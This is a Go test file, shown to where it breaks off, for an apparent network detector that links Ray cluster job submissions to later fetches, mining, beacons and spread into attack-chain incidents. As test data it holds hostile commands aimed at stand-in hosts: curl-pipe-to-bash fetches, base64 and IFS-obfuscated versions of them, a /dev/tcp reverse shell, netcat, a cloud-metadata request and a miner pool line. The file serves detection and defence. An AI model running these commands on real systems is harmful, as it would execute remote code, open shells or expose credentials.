package campaign

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/dns"
	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/decoders/tls"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/detectortest"
	"github.com/raytap/raytap/interpreters/ray"
)

const (
	attacker = "203.0.113.66"
	other    = "203.0.113.67"
	head     = "10.20.0.10"
	worker   = "10.20.0.11"
	ci       = "10.20.0.20"
	proxy    = "10.20.0.30"
	resolver = "10.20.0.53"
	evil     = "198.51.100.77"
	pool     = "198.51.100.44"
)

// scene is a network in which things happen, one after the other.
type scene struct {
	bus       *detectors.Bus
	said      []*detectors.Finding  // campaign/chain alone, and what was said of it again
	rows      []*detectors.Incident // all that was said
	incidents []*detectors.Incident // of each the last
	now       capture.Time
	packet    uint64
	flows     int
}

// Rules are those of the registry, which imports this package: kinds_test.go, outside it, sets them.
var Rules []detectors.Rule

func newScene(cfg *Config) *scene {
	s := &scene{now: 1_000_000 * 1e9}
	s.bus = detectors.NewBus(func(f *detectors.Finding) {
		if f.Rule == rule {
			s.said = append(s.said, f)
		}
	})
	s.bus.Again = func(f *detectors.Finding, was detectors.Severity) {
		if len(s.said) > 0 && f.Incident == s.said[0].Incident && f.ID() != s.said[0].ID() {
			panic("another name")
		}
		s.said = append(s.said, f)
	}
	s.bus.Rows = func(r capture.Record) {
		x := r.(*detectors.Incident)
		s.rows = append(s.rows, x)
		i := slices.IndexFunc(s.incidents, func(y *detectors.Incident) bool { return y.ID == x.ID })
		switch {
		case i < 0:
			s.incidents = append(s.incidents, x)
		case s.incidents[i].Revision+1 != x.Revision || s.incidents[i].State != detectors.Open:
			panic("a revision is out of order")
		case x.State == detectors.Merged:
			s.incidents = slices.Delete(s.incidents, i, i+1)
		default:
			s.incidents[i] = x
		}
	}
	home := detectortest.Home()
	env := &detectors.Env{Home: home, Rules: Rules}
	if cfg != nil {
		env.Settings = map[string]any{"campaign": cfg}
	}
	Spec().New(env, s.bus)
	return s
}

func (s *scene) wait(d time.Duration) *scene { s.now = s.now.Add(d); return s }

func (s *scene) at() capture.At {
	s.now = s.now.Add(10 * time.Millisecond)
	s.packet++
	return capture.At{Time: s.now, Packet: s.packet}
}

func (s *scene) flow(src, dst string, port uint16) *capture.Flow {
	s.flows++
	return &capture.Flow{
		UID: fmt.Sprintf("C%d", s.flows), Start: s.now, Proto: capture.ProtoTCP,
		Orig: netip.AddrPortFrom(netip.MustParseAddr(src), uint16(40000+s.flows%20000)),
		Resp: netip.AddrPortFrom(netip.MustParseAddr(dst), port),
	}
}

// find reports a finding.
func (s *scene) find(rule, src, dst string, sev detectors.Severity, out detectors.Outcome, evidence ...string) *scene {
	at := s.at()
	f := &detectors.Finding{
		At: at, Rule: rule, Severity: sev, Outcome: out, Msg: rule, Count: 1, Flow: s.flow(src, dst, 8265), Port: 8265,
		Src: netip.MustParseAddr(src), Dst: netip.MustParseAddr(dst),
	}
	for _, e := range evidence {
		f.Evidence = append(f.Evidence, detectors.Evidence{Field: "entrypoint", Value: e, Packet: at.Packet})
	}
	s.bus.Report(f)
	return s
}

// job is a job as jobsubmit tells of it, and then the call itself.
func (s *scene) job(src, dst, command string, out detectors.Outcome, rules ...string) *scene {
	at := s.at()
	fl := s.flow(src, dst, 8265)
	sev := map[detectors.Outcome]detectors.Severity{detectors.Succeeded: detectors.Critical, detectors.Unknown: detectors.High, detectors.Attempted: detectors.Medium}[out]
	if rules == nil {
		rules = []string{"jobsubmit/external"}
	}
	excerpt := command
	if len(excerpt) > 200 {
		excerpt = excerpt[:200] + "\u2026"
	}
	for _, r := range rules {
		s.bus.Report(&detectors.Finding{
			At: at, Rule: r, Severity: sev, Outcome: out, Flow: fl, Src: fl.Orig.Addr(), Dst: fl.Resp.Addr(), Port: 8265, Count: 1,
			Evidence: []detectors.Evidence{{Field: "entrypoint", Value: excerpt, Packet: at.Packet}},
		})
	}
	s.bus.Publish(&ray.Call{At: at, Flow: fl, Job: true, Entrypoint: command})
	return s
}

func (s *scene) get(src, dst, url string) *scene { return s.web(src, dst, "GET", url, "curl/8", 0) }

func (s *scene) web(src, dst, method, url, agent string, body int64) *scene {
	at := s.at()
	h, path, _ := strings.Cut(strings.TrimPrefix(url, "http://"), "/")
	s.bus.Publish(&http.Transaction{At: at, Flow: s.flow(src, dst, 80),
		Request: &http.Request{At: at, Method: method, Target: "/" + path,
			Header: http.Header{{Name: "Host", Value: h}, {Name: "User-Agent", Value: agent}}, Body: http.Body{Len: body}},
		Response: &http.Response{At: at, Status: 200}})
	return s
}

func (s *scene) lookup(src, name string, addrs ...string) *scene {
	at := s.at()
	t := &dns.Transaction{At: at, Reply: at, Flow: s.flow(src, resolver, 53), Query: name, Asked: true, Answered: true, Type: 1}
	t.Flow.Proto = capture.ProtoUDP
	for _, a := range addrs {
		t.Answers = append(t.Answers, dns.Answer{Name: name, Type: 1, Addr: netip.MustParseAddr(a)})
	}
	s.bus.Publish(t)
	return s
}

func (s *scene) hello(src, dst, name string) *scene {
	s.bus.Publish(&tls.Session{At: s.at(), Flow: s.flow(src, dst, 443), ServerName: name, Answered: true})
	return s
}

func (s *scene) conn(src, dst string, port uint16) *scene {
	f := s.flow(src, dst, port)
	s.bus.Publish(&capture.Conn{At: s.at(), Flow: f, History: "ShAdDaFf", State: "SF", Pkts: [2]uint64{5, 5}})
	return s
}

func (s *scene) end() *scene {
	s.bus.End(s.at())
	return s
}

// expect holds what was said last: severity, who of whom, in how many incidents with a chain.
func (s *scene) expect(t *testing.T, sev detectors.Severity, src, dst string, chains int) {
	t.Helper()
	s.end()
	n := 0
	for _, x := range s.incidents {
		if x.Chain {
			n++
		}
	}
	if n != chains {
		t.Errorf("%d incidents with a chain, want %d", n, chains)
	}
	if len(s.said) == 0 {
		t.Fatal("nothing was said")
	}
	f := s.said[len(s.said)-1]
	if f.Severity != sev || f.Src.String() != src || f.Dst.String() != dst {
		t.Errorf("%s %s > %s: %s; want %s %s > %s", f.Severity, f.Src, f.Dst, f.Msg, sev, src, dst)
	}
	for _, e := range f.Evidence {
		if e.Packet == 0 || len(e.Value) > 1024 {
			t.Errorf("evidence %+v", e)
		}
	}
}

func (s *scene) silent(t *testing.T) {
	t.Helper()
	s.end()
	for _, f := range s.said {
		t.Errorf("%s %s > %s: %s", f.Severity, f.Src, f.Dst, f.Msg)
	}
}

const fetch = "curl -s http://198.51.100.77/x.sh | bash"

const (
	succeeded = detectors.Succeeded
	attempted = detectors.Attempted
	unknown   = detectors.Unknown
	observed  = detectors.Observed
)

func TestWhatFollowsFromAJob(t *testing.T) {
	long := strings.Repeat("true; ", 100) + fetch
	for _, c := range []struct {
		trap string
		do   func(s *scene)
		sev  detectors.Severity
	}{
		{"fetch from an address in the job", func(s *scene) { s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh") }, detectors.Critical},
		{"named beyond the excerpt", func(s *scene) { s.job(attacker, head, long, succeeded).get(head, evil, "http://198.51.100.77/x.sh") }, detectors.Critical},
		{"hidden in base64", func(s *scene) {
			s.job(attacker, head, "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny94LnNofGJhc2gK | base64 -d | bash", succeeded).conn(head, evil, 80)
		}, detectors.Critical},
		{"address as a number", func(s *scene) { s.job(attacker, head, "curl http://3325256781/x|sh", succeeded).conn(head, evil, 80) }, detectors.Critical},
		{"a look-up alone", func(s *scene) {
			s.job(attacker, head, "nslookup k3.evil.example", succeeded).lookup(head, "k3.evil.example")
		}, detectors.Critical},
		{"raw flow to what the name was resolved to", func(s *scene) {
			s.job(attacker, head, "nc k3.evil.example 4444", succeeded).lookup(resolver, "k3.evil.example", evil).conn(head, evil, 4444)
		}, detectors.Critical},
		{"server name", func(s *scene) {
			s.job(attacker, head, "curl https://k3.evil.example/x", succeeded).hello(head, evil, "k3.evil.example")
		}, detectors.Critical},
		{"back to the attacker", func(s *scene) { s.job(attacker, head, "python t.py", succeeded).conn(head, attacker, 4444) }, detectors.Critical},
		{"no answer seen, but it ran", func(s *scene) { s.job(attacker, head, fetch, unknown).get(head, evil, "http://198.51.100.77/x.sh") }, detectors.Critical},
		{"refused, but something ran it", func(s *scene) { s.job(attacker, head, fetch, attempted).get(head, evil, "http://198.51.100.77/x.sh") }, detectors.High},
		{"mining", func(s *scene) {
			s.job(attacker, head, "python t.py", succeeded).wait(time.Hour).find("mining/stratum", head, pool, detectors.High, observed)
		}, detectors.Critical},
		{"mining, no answer seen", func(s *scene) {
			s.job(attacker, head, "python t.py", unknown).find("mining/stratum", head, pool, detectors.High, observed)
		}, detectors.High},
		{"mining after an attempt", func(s *scene) {
			s.job(attacker, head, "python t.py", attempted).find("mining/stratum", head, pool, detectors.High, observed)
		}, detectors.High},
		{"payload", func(s *scene) {
			s.job(attacker, head, "python t.py", succeeded).find("payload/script", evil, head, detectors.Medium, observed)
		}, detectors.Critical},
		{"one thing that may be honest", func(s *scene) {
			s.job(attacker, head, "python t.py", succeeded).find("beacon/regular", head, evil, detectors.Medium, observed)
		}, detectors.High},
		{"two of them", func(s *scene) {
			s.job(attacker, head, "python t.py", succeeded).find("beacon/regular", head, evil, detectors.Medium, observed).
				find("egress/large", head, pool, detectors.Medium, observed)
		}, detectors.Critical},
		{"a dropper at a shared service", func(s *scene) {
			s.job(attacker, head, "curl -s https://raw.githubusercontent.com/a/b/run.sh | bash", succeeded, "jobsubmit/external", "jobsubmit/dropper").
				hello(head, evil, "raw.githubusercontent.com")
		}, detectors.Critical},
		{"metadata asked because the job says so", func(s *scene) {
			s.job(attacker, head, "curl http://169.254.169.254/latest/", succeeded).get(head, "169.254.169.254", "http://169.254.169.254/latest/")
		}, detectors.Critical},
		{"application of Serve", func(s *scene) {
			s.find("rayapi/serve_deploy", attacker, head, detectors.Critical, succeeded, "http://198.51.100.77/app.zip").conn(head, evil, 80)
		}, detectors.Critical},
		{"a hole that reads files", func(s *scene) {
			s.find("rayapi/exploit", attacker, head, detectors.High, succeeded, "/etc/passwd").find("shell/interactive", head, evil, detectors.High, observed)
		}, detectors.High},
		{"worm", func(s *scene) {
			s.job(attacker, head, "python t.py", succeeded).find("jobsubmit/outbound", head, "192.0.2.80", detectors.Critical, succeeded)
		}, detectors.Critical},
	} {
		t.Run(c.trap, func(t *testing.T) {
			s := newScene(nil)
			c.do(s)
			s.expect(t, c.sev, attacker, head, 1)
		})
	}
}

func TestHonestTrafficIsNoChain(t *testing.T) {
	for trap, do := range map[string]func(s *scene){
		"continuous integration fetches what its job names": func(s *scene) {
			s.job(ci, head, "curl -s http://build.example.org/setup.sh | bash", succeeded, "jobsubmit/dropper").
				lookup(head, "build.example.org", evil).get(head, evil, "http://build.example.org/setup.sh").
				find("payload/script", evil, head, detectors.Medium, observed)
		},
		"no finding on the job at all": func(s *scene) {
			s.job(ci, head, "curl -O http://build.example.org/data.tar", succeeded, []string{}...).get(head, evil, "http://build.example.org/data.tar")
		},
		"refused, and then unrelated traffic": func(s *scene) {
			s.job(attacker, head, fetch, attempted).lookup(head, "pypi.org", pool).hello(head, pool, "pypi.org").
				web(head, pool, "GET", "http://deb.debian.org/x", "Debian APT-HTTP/1.3", 0).get(head, pool, "http://ip-api.com/json").
				get(head, "169.254.169.254", "http://169.254.169.254/latest/").conn(head, pool, 443).
				find("egress/large", head, pool, detectors.Medium, observed).find("beacon/regular", head, pool, detectors.Medium, observed)
		},
		"accepted, and then unrelated traffic": func(s *scene) {
			s.job(attacker, head, fetch, succeeded).lookup(head, "pypi.org", pool).hello(head, pool, "pypi.org").conn(head, pool, 443).
				get(head, pool, "http://ip-api.com/json").find("mining/tls", head, pool, detectors.Low, observed)
		},
		"named host contacted before the job": func(s *scene) {
			s.get(head, evil, "http://198.51.100.77/x.sh").job(attacker, head, fetch, succeeded)
		},
		"mined before the job": func(s *scene) {
			s.find("mining/stratum", head, pool, detectors.High, observed).wait(time.Minute).job(attacker, head, "id", succeeded).
				find("mining/stratum", head, pool, detectors.High, observed)
		},
		"a flow that began before the job ends after it": func(s *scene) {
			f := s.flow(head, evil, 80)
			s.wait(time.Second).job(attacker, head, fetch, succeeded)
			s.bus.Publish(&capture.Conn{At: s.at(), Flow: f, History: "ShAdDaFf", Pkts: [2]uint64{5, 5}})
		},
		"the attacker is answered": func(s *scene) {
			s.job(attacker, head, fetch, succeeded)
			f := s.flow(head, attacker, 50000)
			s.bus.Publish(&capture.Conn{At: s.at(), Flow: f, History: "D", Pkts: [2]uint64{1, 0}})
			f = s.flow(head, attacker, 3)
			f.Proto = capture.ProtoICMP
			s.bus.Publish(&capture.Conn{At: s.at(), Flow: f, Pkts: [2]uint64{1, 0}})
		},
		"shared service named in an honest job": func(s *scene) {
			s.job(attacker, head, "pip install git+https://github.com/a/b && python t.py", succeeded).lookup(head, "github.com", pool).hello(head, pool, "github.com")
		},
		"findings that nobody told the table of": func(s *scene) {
			s.job(attacker, head, "python t.py", succeeded).find("new/thing", head, pool, detectors.High, observed).
				find("new/other", head, evil, detectors.Critical, observed)
		},
		"an example of a key goes to the host that the job names": func(s *scene) {
			s.job(ci, head, "python ask.py http://198.51.100.77/v1", succeeded).find("secrets/leak", head, evil, detectors.Low, succeeded)
			s.find("secrets/leak", worker, evil, detectors.Low, succeeded).find("mining/pool", worker, pool, detectors.Low, observed)
		},
		"a node outside joins and is called": func(s *scene) {
			s.find("raynode/foreign", attacker, head, detectors.Critical, succeeded, attacker).conn(head, attacker, 8076)
		},
		"a browser goes on with the page that made it submit": func(s *scene) {
			s.job(ci, head, "id", attempted, "jobsubmit/browser").get(ci, evil, "http://evil.example/favicon.ico").conn(ci, evil, 443)
		},
		"what may be honest comes late": func(s *scene) {
			s.job(attacker, head, "python t.py", succeeded).wait(2*time.Hour).find("egress/large", head, pool, detectors.Medium, observed)
		},
		"another machine asks for others": func(s *scene) {
			s.lookup(worker, "a.example", pool).job(attacker, head, "nslookup k3.evil.example", succeeded).lookup(resolver, "k3.evil.example", evil)
		},
		"grave, but on another machine": func(s *scene) {
			s.job(attacker, head, "python t.py", succeeded).find("mining/stratum", worker, pool, detectors.High, observed)
		},
		"one miner, two findings": func(s *scene) {
			s.find("mining/pool", head, pool, detectors.Medium, observed).find("mining/stratum", head, pool, detectors.High, observed)
		},
		"scanned, nothing more": func(s *scene) {
			s.find("scan/hosts", attacker, head, detectors.Medium, observed).find("rayapi/recon", attacker, head, detectors.Low, observed)
		},
	} {
		t.Run(trap, func(t *testing.T) {
			s := newScene(nil)
			do(s)
			s.silent(t)
		})
	}
}

func TestJobFromInsideThatLeadsToSomethingGrave(t *testing.T) {
	s := newScene(nil)
	s.job(ci, head, fetch, succeeded, "jobsubmit/dropper").find("mining/stratum", head, pool, detectors.High, observed)
	s.expect(t, detectors.High, ci, head, 1)
}

func TestBrowserThatAPageMadeSubmit(t *testing.T) {
	s := newScene(nil)
	s.job(ci, head, fetch, succeeded, "jobsubmit/browser", "jobsubmit/dropper").get(head, evil, "http://198.51.100.77/x.sh")
	s.expect(t, detectors.Critical, ci, head, 1)
}

func TestAllowedUsersCountAsInside(t *testing.T) {
	cfg := Default()
	cfg.Allow = []string{attacker}
	s := newScene(&cfg)
	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh")
	s.silent(t)
	s = newScene(&cfg)
	s.job(attacker, head, fetch, succeeded).find("mining/stratum", head, pool, detectors.High, observed)
	s.expect(t, detectors.High, attacker, head, 1)
}

func TestTheWayInWasNotSeen(t *testing.T) {
	s := newScene(nil)
	s.find("shell/interactive", head, evil, detectors.High, observed).find("mining/stratum", head, pool, detectors.High, observed).
		find("jobsubmit/outbound", head, "192.0.2.80", detectors.Critical, succeeded)
	s.expect(t, detectors.Medium, head, pool, 1)
	if x := s.incidents[0]; len(x.Attackers) != 0 || len(x.Steps) != 3 || !strings.Contains(x.Summary, "not seen") {
		t.Errorf("%+v", x)
	}
}

func TestUnrelatedIncidentsStayApart(t *testing.T) {
	s := newScene(nil)
	s.job(attacker, head, fetch, succeeded).job(other, worker, "curl http://192.0.2.9/y|sh", succeeded).
		get(head, evil, "http://198.51.100.77/x.sh").get(worker, "192.0.2.9", "http://192.0.2.9/y").
		find("mining/stratum", head, pool, detectors.High, observed).find("mining/stratum", worker, pool, detectors.High, observed).
		expect(t, detectors.Critical, other, worker, 2)
	if a, b := s.incidents[0], s.incidents[1]; a.ID == b.ID || len(a.Victims) != 1 || len(b.Victims) != 1 || len(a.Attackers) != 1 {
		t.Errorf("%v %v", a, b)
	}
}

func TestWhatJoins(t *testing.T) {
	for trap, do := range map[string]func(s *scene){
		"one attacker, two victims": func(s *scene) {
			s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh").job(attacker, worker, "id", succeeded)
		},
		"two attackers name one host": func(s *scene) {
			s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh").
				job(other, worker, "wget http://198.51.100.77/z", succeeded)
		},
		"two attackers name one host in words, and it is called": func(s *scene) {
			s.job(attacker, head, "nslookup k3.evil.example", succeeded).job(other, worker, "ping k3.evil.example", succeeded).lookup(head, "k3.evil.example")
		},
		"another machine fetches from the payload host": func(s *scene) {
			s.job(attacker, head, fetch, succeeded).find("payload/script", evil, head, detectors.Medium, observed).
				find("payload/executable", evil, worker, detectors.High, observed)
		},
		"two incidents turn out to be one": func(s *scene) {
			s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh").
				job(other, worker, "curl http://192.0.2.9/y|sh", succeeded).get(worker, "192.0.2.9", "http://192.0.2.9/y").
				job(other, head, "id", succeeded)
		},
		"the worm goes from machine to machine inside": func(s *scene) {
			s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh").
				job(head, worker, fetch, succeeded, "jobsubmit/dropper").get(worker, evil, "http://198.51.100.77/x.sh")
		},
	} {
		t.Run(trap, func(t *testing.T) {
			s := newScene(nil)
			do(s)
			s.end()
			if len(s.incidents) != 1 || len(s.incidents[0].Victims) != 2 || !s.incidents[0].Chain {
				t.Errorf("%d incidents", len(s.incidents))
				for _, x := range s.incidents {
					t.Errorf("%+v", x)
				}
			}
		})
	}
}

func TestSharedServiceJoinsNothing(t *testing.T) {
	s := newScene(nil)
	for i, h := range []string{head, worker} {
		s.job([]string{attacker, other}[i], h, "curl https://raw.githubusercontent.com/a/b.sh | bash", succeeded, "jobsubmit/external", "jobsubmit/dropper").
			hello(h, evil, "raw.githubusercontent.com")
	}
	s.expect(t, detectors.Critical, other, worker, 2)
	s = newScene(nil) // nor does a file of the same name
	s.job(attacker, head, "curl http://198.51.100.77/x.sh | sh", succeeded).job(other, worker, "curl http://192.0.2.9/x.sh | sh", succeeded).end()
	if len(s.incidents) != 2 {
		t.Errorf("%d incidents", len(s.incidents))
	}
}

func TestJobBehindAProxy(t *testing.T) {
	s := newScene(nil)
	// The inner hop is complete first.
	in := s.flow(proxy, head, 8265)
	at := s.at()
	call := &ray.Call{At: at, Flow: s.flow(attacker, proxy, 80), Job: true, Entrypoint: fetch}
	s.bus.Publish(&ray.Call{At: s.at(), Flow: in, Job: true, Entrypoint: fetch, Proxied: true})
	s.bus.Report(&detectors.Finding{At: at, Rule: "jobsubmit/external", Severity: detectors.Critical, Outcome: succeeded, Flow: call.Flow,
		Src: call.Flow.Orig.Addr(), Dst: call.Flow.Resp.Addr(), Port: 80, Evidence: []detectors.Evidence{{Field: "request", Value: "POST", Packet: 1}}})
	s.bus.Publish(call)
	s.find("mining/stratum", head, pool, detectors.High, observed)
	s.expect(t, detectors.Critical, attacker, proxy, 1)
	if v := s.incidents[0].Victims; !slices.Contains(v, netip.MustParseAddr(head)) {
		t.Errorf("victims %v", v)
	}
}

// An incident is told as it grows, but not with every step.
func TestSaidAgainOnlyForMore(t *testing.T) {
	s := newScene(nil)
	s.find("rayapi/recon", attacker, head, detectors.Low, succeeded).job(attacker, head, fetch, attempted)
	s.get(head, evil, "http://198.51.100.77/x.sh").conn(head, pool, 443)
	if len(s.said) != 1 || s.said[0].Severity != detectors.High {
		t.Fatalf("%d said", len(s.said))
	}
	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh").conn(head, pool, 443)
	if len(s.said) != 2 || s.said[1].Severity != detectors.Critical {
		t.Fatalf("%d said: more severe is said at once", len(s.said))
	}
	s.find("mining/stratum", head, pool, detectors.High, observed).conn(head, pool, 443)
	if len(s.said) != 2 {
		t.Errorf("a new tactic is said after a while, not at once")
	}
	s.wait(2*updateEvery).conn(head, pool, 443)
	if len(s.said) != 3 || !strings.Contains(s.said[2].Msg, "Impact") {
		t.Errorf("%d said: the new tactic is said", len(s.said))
	}
	for range 1000 {
		s.wait(time.Minute).get(head, evil, "http://198.51.100.77/x.sh").find("mining/stratum", head, pool, detectors.High, observed)
	}
	if n := len(s.said); n < 5 || n > 3+8+1000/60 {
		t.Errorf("%d said: what repeats itself is said at intervals", n)
	}
	for i, f := range s.said {
		if f.ID() != s.said[0].ID() || f.Revision != i+1 || f.Incident != s.rows[0].ID {
			t.Errorf("revision %d of %s is the %d. of %s", f.Revision, f.ID(), i+1, s.said[0].ID())
		}
	}
	s.end()
	x := s.incidents[0]
	if got := x.Steps[0].What; got != "read the Ray API of 10.20.0.10:8265" {
		t.Errorf("first step %q", got)
	}
	if x.Score < 80 || len(x.Why) < 4 || x.Findings != 1004 {
		t.Errorf("score %d %v, %d findings", x.Score, x.Why, x.Findings)
	}
	if !slices.IsSortedFunc(x.Steps, func(a, b detectors.Step) int { return int(a.Time - b.Time) }) {
		t.Error("steps out of order")
	}
}

func TestClosedWhenQuiet(t *testing.T) {
	s := newScene(nil)
	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh").wait(7*time.Hour).conn(worker, pool, 443)
	if len(s.incidents) != 1 || s.incidents[0].State != detectors.Closed {
		t.Fatalf("%d written", len(s.incidents))
	}
	s.find("mining/stratum", head, pool, detectors.High, observed)
	s.end()
	if len(s.incidents) != 1 || len(s.incidents[0].Steps) != 2 {
		t.Error("a closed incident lives on")
	}
}

func TestAnEntryWithoutConsequenceIsWrittenButNotSaid(t *testing.T) {
	s := newScene(nil)
	s.job(attacker, head, "id", succeeded).silent(t)
	if len(s.incidents) != 1 || s.incidents[0].Chain || s.incidents[0].State != detectors.Closed || s.incidents[0].Severity != detectors.Critical {
		t.Errorf("%+v", s.incidents)
	}
	s = newScene(nil)
	s.job(attacker, head, "id", attempted).end()
	if len(s.incidents) != 0 {
		t.Error("an attempt is no incident")
	}
}

func TestBoundsHold(t *testing.T) {
	s := newScene(nil)
	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh")
	for i := range 3 * maxIncidents {
		s.job(netip.AddrFrom4([4]byte{100, 0, byte(i >> 8), byte(i)}).String(), netip.AddrFrom4([4]byte{10, 1, byte(i >> 8), byte(i)}).String(), fetchFrom(i), attempted)
	}
	s.end()
	if len(s.incidents) != 1 || s.incidents[0].Severity != detectors.Critical {
		t.Errorf("%d written: attempts make room before a success does", len(s.incidents))
	}
	s = newScene(nil)
	for i := range 500 {
		s.job(netip.AddrFrom4([4]byte{100, 0, byte(i >> 8), byte(i)}).String(), head, fetchFrom(i), succeeded).
			conn(head, netip.AddrFrom4([4]byte{50, 0, byte(i >> 8), byte(i)}).String(), 80)
	}
	s.end()
	x := s.incidents[0]
	if len(s.incidents) != 1 || len(x.Steps) > maxSteps || len(x.Attackers) > maxParties || len(x.Others) > maxParties || x.MoreSteps == 0 || len(x.Summary) > 2000 {
		t.Errorf("%d incidents, %d steps and %d more, %d attackers", len(s.incidents), len(x.Steps), x.MoreSteps, len(x.Attackers))
	}
	if len(s.said) > 5 {
		t.Errorf("said %d times", len(s.said))
	}
}

func fetchFrom(i int) string { return fmt.Sprintf("curl http://50.0.%d.%d/x|sh", i>>8, i&255) }

func TestIndicators(t *testing.T) {
	for in, want := range map[string]string{
		"curl -s http://198.51.100.77:8000/x.sh|bash":                                          "198.51.100.77 x.sh",
		"wget hTTps://User:pw@Files.Evil.Example.:8443/a?b":                                    "files.evil.example",
		"curl 'http://0xc633644d/x'":                                                           "198.51.100.77",
		"curl http://0306.063.0144.0115/":                                                      "198.51.100.77",
		"curl http://198.51.25677/":                                                            "198.51.100.77",
		"curl http://[2001:db8::1]:80/":                                                        "2001:db8::1",
		"bash -i >& /dev/tcp/198.51.100.77/4444 0>&1":                                          "198.51.100.77",
		"python miner.py xmrig pool.supportxmr.com 3333":                                       "miner.py pool.supportxmr.com",
		`s.connect(("198.51.100.77",4444))`:                                                    "198.51.100.77 s.connect",
		"cu''rl ht''tp://k3.evil.example/":                                                     "k3.evil.example",
		"echo$IFS-n${IFS}Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny94LnNofGJhc2gK|base64$IFS-d|sh": "198.51.100.77 x.sh",
		"echo 1.2.3 v6.21.0 localhost http://ray-head:8265 x..y":                               "",
		"cut off http://198.51.100.7\u2026":                                                    "",
		"http://store.corp.internal/ http://metadata.google.internal/":                         "metadata.google.internal",
	} {
		c := collector{budget: maxBudget}
		c.text(in, 0)
		var got []string
		for _, i := range c.all {
			if i.name != "" {
				got = append(got, i.name)
			} else {
				got = append(got, i.addr.String())
			}
		}
		if strings.Join(got, " ") != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func FuzzIndicators(f *testing.F) {
	f.Add("echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny94LnNofGJhc2gK | base64 -d | bash")
	f.Add("curl http://[::1%25]:0x/@://..\u2026")
	f.Fuzz(func(t *testing.T, s string) {
		c := collector{budget: maxBudget}
		c.text(s, 0)
		if len(c.all) > maxIndicators {
			t.Errorf("%d indicators", len(c.all))
		}
		for _, i := range c.all {
			if (i.name == "") != i.addr.IsValid() || len(i.name) > maxName {
				t.Errorf("%+v", i)
			}
		}
	})
}

// Every technique of the table is in the data file, and has a tactic; every placeholder has its verb.
func TestKindsAreSound(t *testing.T) {
	kinds := kindsOf(Rules)
	known := tacticsOf(kinds)
	for r, k := range kinds {
		for _, id := range k.Techniques {
			if len(known[id]) == 0 {
				t.Errorf("%s: technique %s has no tactic", r, id)
			}
		}
		if strings.Count(k.Does, "%") != 1 {
			t.Errorf("%s: %q", r, k.Does)
		}
	}
	d := &detector{kinds: kinds}
	if k := d.kindOf("payload/script"); k.Group != detectors.GroupFetch {
		t.Errorf("payload/script: %+v", k)
	}
	if k := d.kindOf("new/thing"); k.Group != detectors.GroupOther || k.Sure {
		t.Error("a rule that says nothing of its story proves nothing")
	}
}

// TestOwnRule: a rule of a caller's own detector takes part in an incident as its Story says; without one it is but listed.
func TestOwnRule(t *testing.T) {
	theft := detectors.Rule{Name: "own/theft", ATLAS: []string{"AML.T0025"}, ATTACK: []string{"T1041"}, Story: detectors.Story{
		Group: detectors.GroupTheft, Sure: true, Grave: true, Does: "emptied the vault to %", Other: "exfiltration host"}}
	mute := theft
	mute.Story = detectors.Story{}
	none := theft
	none.Story = detectors.Story{Role: detectors.RoleNone}
	saved := Rules
	defer func() { Rules = saved }()
	for _, x := range []struct {
		says     string
		rule     detectors.Rule
		chain    bool
		step     string
		findings uint64
	}{
		{"with a story", theft, true, "emptied the vault to", 2},
		{"without", mute, false, "was found in connection with", 2},
		{"none", none, false, "", 1},
	} {
		Rules = append(slices.Clone(saved), x.rule)
		s := newScene(nil)
		s.job(attacker, head, "python train.py", succeeded).wait(time.Minute)
		s.find("own/theft", head, pool, detectors.High, observed)
		s.bus.End(s.at())
		if len(s.incidents) != 1 {
			t.Errorf("%s: %d incidents", x.says, len(s.incidents))
			continue
		}
		i := s.incidents[0]
		told := slices.ContainsFunc(i.Steps, func(y detectors.Step) bool { return x.step != "" && strings.Contains(y.What, x.step) })
		if i.Chain != x.chain || told != (x.step != "") || uint64(i.Findings) != x.findings || slices.ContainsFunc(i.Techniques, func(y string) bool { return strings.HasPrefix(y, "T1041 ") }) != x.chain {
			t.Errorf("%s: chain %t, %d findings, %v, %+v", x.says, i.Chain, i.Findings, i.Techniques, i.Steps)
		}
	}
}

// TestToldWhenItBegins: an incident has a row when it begins and when it grows, under one id, and one when it is over.
func TestToldWhenItBegins(t *testing.T) {
	s := newScene(nil)
	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh").conn(head, pool, 443)
	if len(s.rows) != 1 || s.rows[0].State != detectors.Open || !s.rows[0].Chain || s.rows[0].Revision != 1 || len(s.said) != 1 {
		t.Fatalf("%d rows, %d said", len(s.rows), len(s.said))
	}
	first := *s.rows[0]
	steps, victims, others := len(first.Steps), slices.Clone(first.Victims), slices.Clone(first.Others)
	s.find("mining/stratum", head, pool, detectors.High, observed)
	s.job(attacker, worker, fetch, succeeded).wait(2*time.Minute).conn(head, pool, 443)
	if len(s.rows) != 2 || s.rows[1].ID != first.ID || s.rows[1].Revision != 2 || len(s.rows[1].Steps) <= steps || len(s.rows[1].Victims) != 2 {
		t.Fatalf("%d rows, the last %+v", len(s.rows), s.rows[len(s.rows)-1])
	}
	if len(s.rows[0].Steps) != steps || !slices.Equal(s.rows[0].Victims, victims) || !slices.Equal(s.rows[0].Others, others) {
		t.Error("what was written has changed")
	}
	s.wait(7*time.Hour).conn(worker, pool, 443)
	if n := len(s.rows); n != 3 || s.rows[2].State != detectors.Closed || s.rows[2].Revision != 3 {
		t.Errorf("%d rows, the last %+v", n, s.rows[n-1])
	}
	if len(s.said) != 2 {
		t.Errorf("%d said: that it is over is no news", len(s.said))
	}
	for _, x := range s.rows {
